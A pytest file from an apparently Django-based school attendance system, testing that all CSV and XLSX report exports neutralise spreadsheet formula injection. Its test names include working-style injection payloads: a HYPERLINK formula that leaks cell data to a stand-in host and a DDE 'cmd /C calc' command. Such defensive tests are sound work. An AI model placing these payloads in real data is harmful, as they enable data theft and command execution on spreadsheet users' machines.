"""No export runs a formula: a student, class, teacher, year group, term or code named like a
formula (=, +, -, @, a tab or a carriage return first) is text in every CSV (a leading quote, as
OWASP advises) and every XLSX (a string cell, never a formula), whatever export it is in."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from apps.classes.models import SchoolClass
from apps.homeroom.services import DailyMarkInput
from apps.school.models import AttendanceCode, Student, Teacher, Term, YearGroup
from tests.reports.conftest import record_homeroom

# OWASP's list: what a spreadsheet program reads as the start of a formula or DDE call.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NAMES = {
    "code": '=HYPERLINK("https://x.example/?"&A1,"Absent")',  # (a label holds 50 characters)
    "teacher": "=SUM(1,1)",
    "student": "=2+3",
    "class": "-1+1",
    "year group": "+SUM(1,1)",
    "term": "@SUM(1+1)*cmd|' /C calc'!A0",
    "student number": "\t700000",
    "admin": "\r=1+1",
}


@pytest.fixture
def wednesday_morning():
    with time_machine.travel(datetime(2026, 11, 18, 10, 0, tzinfo=UTC), tick=False):
        yield


@pytest.fixture
def formula_names(wednesday_morning, term_data, admin):
    world = term_data.world
    Student.objects.filter(pk=term_data.s0.pk).update(
        last_name=NAMES["student"], student_number=NAMES["student number"]
    )
    SchoolClass.objects.filter(pk=world.english.pk).update(name=NAMES["class"])
    Teacher.objects.filter(pk=world.teacher.pk).update(first_name=NAMES["teacher"])
    AttendanceCode.objects.filter(pk=term_data.codes.absent.pk).update(label=NAMES["code"])
    YearGroup.objects.filter(pk=world.year7.pk).update(name=NAMES["year group"])
    Term.objects.filter(pk=term_data.term1.pk).update(name=NAMES["term"])
    admin.first_name = NAMES["admin"]  # the audit log's "Changed by"
    admin.save()
    today = term_data.school.today()
    record_homeroom(term_data.school, [DailyMarkInput(term_data.s0.pk, today, term_data.codes.absent.pk)])
    return term_data


def exports(data) -> dict[str, tuple[str, dict]]:
    world, term = data.world, {"term": data.term1.pk}
    return {
        "office today": (reverse("reports:dashboard"), {}),
        "unmarked rolls": (reverse("reports:unmarked"), {"start": data.mon0, "end": data.wed1}),
        "term reports": (reverse("reports:term_reports"), term),
        "class report": (reverse("reports:class_report", args=[world.english.pk]), term),
        "year group report": (reverse("reports:year_group_report", args=[world.year7.pk]), term),
        "student report": (reverse("reports:student_report", args=[data.s0.pk]), term),
        "chronic absence": (reverse("reports:chronic"), term),
        "audit log": (reverse("reports:audit"), {"date": data.mon1.isoformat()}),
    }


EXPORTS = [
    "office today",
    "unmarked rolls",
    "term reports",
    "class report",
    "year group report",
    "student report",
    "chronic absence",
    "audit log",
]


def test_every_export_is_listed_here():
    from apps.reports import views

    source = open(views.__file__).read()
    assert source.count("exports.export_response(") == len(EXPORTS)


@pytest.mark.parametrize("name", EXPORTS)
def test_csv_cells_that_look_like_formulas_start_with_a_quote(client, formula_names, admin, name):
    client.force_login(admin)
    url, params = exports(formula_names)[name]
    response = client.get(url, {**params, "format": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
    assert dangerous == []
    quoted = [c for c in cells if c.startswith("'")]
    assert quoted, "some name of the school is in every export"
    for cell in quoted:
        assert cell[1:].startswith(FORMULA_STARTS)
        assert any(text in cell[1:] for text in NAMES.values()), cell


@pytest.mark.parametrize("name", EXPORTS)
def test_xlsx_cells_are_text_never_formulas(client, formula_names, admin, name):
    client.force_login(admin)
    url, params = exports(formula_names)[name]
    response = client.get(url, {**params, "format": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert b"<f>" not in _sheet_xml(response.content)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # The names are kept exactly as the school wrote them.
    assert any(text in value for value in texts for text in NAMES.values())


def test_negative_numbers_stay_numbers(client, formula_names, admin):
    client.force_login(admin)
    url, params = exports(formula_names)["year group report"]
    rows = list(csv.reader(io.StringIO(client.get(url, {**params, "format": "csv"}).content.decode())))
    assert [r[2] for r in rows if len(r) == 3 and r[2] in ("2", "-1", "'-1")] == ["2", "-1"]  # the adjustments
    workbook = load_workbook(io.BytesIO(client.get(url, {**params, "format": "xlsx"}).content))
    adjustments = [list(r) for r in workbook.worksheets[1].iter_rows(min_row=2, values_only=True)]
    assert [r[2] for r in adjustments] == [2, -1]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
